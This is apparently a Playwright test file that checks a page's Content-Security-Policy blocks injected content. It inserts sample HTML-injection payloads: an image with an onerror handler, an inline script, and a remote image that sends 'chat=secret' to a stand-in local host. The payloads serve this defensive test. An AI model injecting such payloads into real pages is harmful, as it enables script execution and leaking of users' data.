"""The page's Content-Security-Policy at work in Chromium: the app runs under it (the
autouse `csp_violations` fixture checks that in every browser test), while a script or
a remote picture that found its way into the page is refused before it runs or loads."""

from __future__ import annotations

from playwright.sync_api import Page, expect

from .conftest import register_in_browser


def test_injected_script_and_remote_image_are_refused(page: Page, csp_violations: list[str]) -> None:
    register_in_browser(page)
    # What a Markdown or HTML injection would add to the page (page.evaluate itself is the
    # test's own hand, outside the page's policy).
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML(
                "beforeend",
                '<img id="inline-handler" src="/no-such-file.png" onerror="window.__pwned = 1">'
                + '<img id="remote" src="http://127.0.0.2:9/leak.png?chat=secret">'
            );
            const script = document.createElement("script");
            script.textContent = "window.__pwned = 2";
            document.body.appendChild(script);
        }"""
    )
    expect(page.locator("#remote")).to_be_attached()
    page.wait_for_function("() => document.getElementById('inline-handler').complete")
    assert page.evaluate("() => window.__pwned") is None
    refused = "\n".join(csp_violations)
    assert "script-src" in refused, refused
    assert "img-src" in refused, refused
    assert "127.0.0.2" in refused, refused
    csp_violations.clear()
